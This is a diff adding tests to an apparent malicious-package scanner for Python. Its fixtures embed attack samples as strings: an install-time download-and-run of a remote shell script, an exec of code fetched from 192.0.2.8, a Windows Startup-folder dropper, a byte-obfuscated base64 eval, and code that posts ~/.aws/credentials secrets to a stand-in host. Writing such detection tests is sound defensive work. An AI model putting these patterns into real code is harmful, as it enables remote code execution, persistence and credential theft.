@@ -237,6 +237,11 @@ test('sys.executable started with inline code on import reads as python -c: high
   const launch = ruleOf(list, 'process-launch-payload');
   assert.equal(launch?.severity, 'high');
   assert.match(launch!.message, /another Python running inline code/);
+  // a child Python whose output the import reads is a query, its inline code judged on its own
+  const query = findings(
+    'import subprocess, sys\nVERSION = subprocess.check_output([sys.executable, "-c", "import platform; print(platform.mac_ver()[0])"])\n',
+  );
+  assert.equal(ruleOf(query, 'process-launch-payload'), undefined);
 });
 
 test("a provider's secret sent to a hard-coded host of another owner is high; to its own service it is not", () => {
@@ -268,4 +273,89 @@ test('a network library sending through an object passed in is egress; a generat
     new TextEncoder().encode('def drive(gen, items):\n    for item in items:\n        gen.send(item)\n'),
   )[0];
   assert.equal(generator.egress, false);
+});
+
+test('setup.py running python -c "import pkg.post; pkg.post.run()" makes that function install-time; a downloaded script run is download-execute', async () => {
+  const report = await analyseTarget({
+    'demo-1.0/setup.py': [
+      'import subprocess',
+      'from setuptools import setup',
+      'subprocess.run(["python", "-c", "import demo.post; demo.post.run()"])',
+      'setup(name="demo")',
+    ].join('\n'),
+    'demo-1.0/demo/__init__.py': '',
+    'demo-1.0/demo/post.py': [
+      'import os, subprocess, urllib.request',
+      'def run():',
+      '    path = os.path.expanduser("~/stage.sh")',
+      '    urllib.request.urlretrieve("https://files.example/stage.sh", path)',
+      '    subprocess.run(["/bin/bash", path])',
+    ].join('\n'),
+  });
+  const post = report.files.find((file) => file.path === 'demo-1.0/demo/post.py');
+  const dropper = post?.findings.find((f) => f.rule === 'download-execute');
+  assert.equal(dropper?.trigger, 'install');
+  assert.equal(dropper?.severity, 'critical');
+  // a script the code writes itself (not downloaded) and runs is ordinary: no dropper finding
+  const local = findings(
+    'import subprocess\ndef gen():\n    open("build.sh", "w").write("make")\n    subprocess.run(["sh", "build.sh"])\n',
+  );
+  assert.equal(ruleOf(local, 'drop-and-run'), undefined);
+  assert.equal(ruleOf(local, 'download-execute'), undefined);
+});
+
+test('Python code written into a file to be run later is analysed as its own file', () => {
+  const reports = analyzePythonFile(
+    'demo/mod.py',
+    new TextEncoder().encode(
+      'import os, sys, tempfile\ndef get():\n    t = tempfile.NamedTemporaryFile(delete=False)\n    t.write(b"from urllib.request import urlopen;exec(urlopen(\'http://192.0.2.8/x\').read())")\n    t.close()\n    os.system(f"{sys.executable} {t.name}")\n',
+    ),
+  );
+  assert.equal(reports[0].findings.find((f) => f.rule === 'python-code-written')?.severity, 'info');
+  const payload = reports.find((report) => report.path === 'demo/mod.py#decoded-1');
+  assert.ok(payload?.findings.some((f) => f.rule === 'download-execute' && ['high', 'critical'].includes(f.severity)));
+  // plain text written to a file is not code
+  const notes = analyzePythonFile(
+    'demo/notes.py',
+    new TextEncoder().encode('def save(f):\n    f.write("remember to import the data before the meeting")\n'),
+  );
+  assert.equal(notes.length, 1);
+});
+
+test('an autostart place named in a function that downloads is high even when called; a shell start-up file is not', () => {
+  const dropper = findings(
+    'import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser("~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup")\n    open(os.path.join(folder, name), "wb").write(requests.get(url).content)\n',
+  );
+  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
+  const installer = findings(
+    'import os, requests\ndef install(url):\n    open("/tmp/tool", "wb").write(requests.get(url).content)\n    open(os.path.expanduser("~/.bashrc"), "a").write("export PATH=$PATH:/opt/tool")\n',
+  );
+  assert.notEqual(ruleOf(installer, 'persistence')?.severity, 'high');
+});
+
+test('bytes([...]) lists are read as the text they spell: a module name hidden as byte values is found', () => {
+  const hidden = findings(
+    'f = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), bytes([98, 54, 52, 100, 101, 99, 111, 100, 101]).decode())(bytes([90, 88, 90, 104, 98, 65, 61, 61])).decode())\n',
+  );
+  assert.ok(hidden.some((f) => f.rule === 'exec-decoded-payload' && f.severity === 'critical'));
+  assert.match(ruleOf(hidden, 'dynamic-import')?.message ?? '', /imports base64/);
+});
+
+test('a reader object loaded from a credential file carries its data: config.read(~/.aws/credentials) then config.get', () => {
+  const stealer = findings(
+    [
+      'import configparser, os, requests',
+      'def push(hook):',
+      '    config = configparser.RawConfigParser()',
+      '    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))',
+      '    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]',
+      '    requests.post("https://hooks.example/in", json=keys)',
+    ].join('\n'),
+  );
+  assert.equal(ruleOf(stealer, 'exfiltration')?.severity, 'high');
+  // the module used to build the path is not made a carrier of the file's data
+  const paths = findings(
+    'import os, requests\ndef check():\n    p = os.path.join(os.path.expanduser("~"), ".aws/credentials")\n    requests.post("https://api.example/x", data=os.path.exists("/tmp"))\n',
+  );
+  assert.equal(ruleOf(paths, 'exfiltration'), undefined);
 });
